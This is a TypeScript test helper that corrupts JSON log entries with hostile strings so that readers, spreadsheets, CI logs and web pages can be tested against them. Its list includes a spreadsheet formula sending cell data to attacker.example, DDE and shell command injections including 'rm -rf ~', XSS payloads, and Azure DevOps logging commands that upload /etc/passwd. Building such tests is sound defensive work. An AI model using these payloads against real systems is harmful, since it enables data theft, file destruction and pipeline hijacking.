import type {SeededRandom} from './random';

/** Text that breaks careless readers, spreadsheets, shells, logs and web pages. */
const HOSTILE_TEXTS: readonly string[] = [
  'says "hello", then \'goodbye\' and a \\backslash',
  'two\r\nlines, a lone\rcarriage return and a\nline feed',
  '👩‍💻 emoji 🏴‍☠️ and astral 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '=HYPERLINK("https://attacker.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\tstarts with a tab',
  '\r\n=1+1 after a line break',
  'a NUL \u0000 inside, a bell \u0007 and \u001b[31mescape codes\u001b[0m',
  'line\u2028separator and paragraph\u2029separator',
  'right-to-left \u202Egnp.exe\u202C and \u200Fmark',
  '<script>alert(document.domain)</script><img src=x onerror=alert(1)>',
  '##vso[task.setvariable variable=pwned]x',
  'before ##vso[task.complete result=Succeeded;]done',
  '##[error]not really an error',
  '##[group]',
  '%0D%0A##vso[task.setvariable variable=pwned]x',
  'x\r##vso[artifact.upload artifactname=pwned]/etc/passwd\n##vso[task.uploadsummary]/etc/passwd',
  '$(rm -rf ~) `id` ${IFS} && exit 1; # %PATH% $env:PATH',
  '| a | markdown | table | [link](javascript:alert(1)) ![i](https://attacker.example/i.png) |',
  '__proto__',
  'ends with a backslash\\',
  '",";","\t"',
  ' leading and trailing space ',
  '\uFEFFstarts with a byte order mark',
  '',
  'null',
  '2026-11-20',
  '0012',
  '1e308',
  '＝full-width equals',
];

const LONG_TEXT_LENGTH = 40_000;

/**
 * Makes every text of an entry hostile except its `id` and `timestamp`, which the paging and the window depend on.
 *
 * @param entry the entry as an object; not changed
 * @returns the hostile entry as JSON text
 */
export function hostileEntry(entry: Readonly<Record<string, unknown>>, random: SeededRandom): string {
  const longField = random.chance(0.05) ? random.below(20) : -1;
  const hostile = Object.fromEntries(Object.entries(entry).map(([name, value], index) => {
    if (name === 'id' || name === 'timestamp') return [name, value];
    if (index === longField) return [name, longText(random)];
    return [name, value === null && random.chance(0.5) ? null : poison(value, random)];
  }));
  hostile[`##vso[task.setvariable variable=pwned]field${String(random.below(3))}`] = random.pick(HOSTILE_TEXTS);
  const text = JSON.stringify(hostile);
  return random.chance(0.3) ? escapeNonAscii(text) : text;
}

function poison(value: unknown, random: SeededRandom): unknown {
  if (Array.isArray(value)) return value.map((member) => poison(member, random));
  if (typeof value !== 'object' || value === null) return random.pick(HOSTILE_TEXTS);
  const members = Object.entries(value).map(([name, member]) => [name, poison(member, random)]);
  return Object.fromEntries([...members, [random.pick(HOSTILE_TEXTS), random.pick(HOSTILE_TEXTS)]]);
}

function longText(random: SeededRandom): string {
  return `=${random.pick(HOSTILE_TEXTS)} `.repeat(LONG_TEXT_LENGTH).slice(0, LONG_TEXT_LENGTH);
}

/** The other legal way to write the same text, as some JSON writers do: everything beyond ASCII, and the slash, escaped. */
function escapeNonAscii(text: string): string {
  return text.replace(/[^\x20-\x7e]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`).replace(/\//g, '\\/');
}
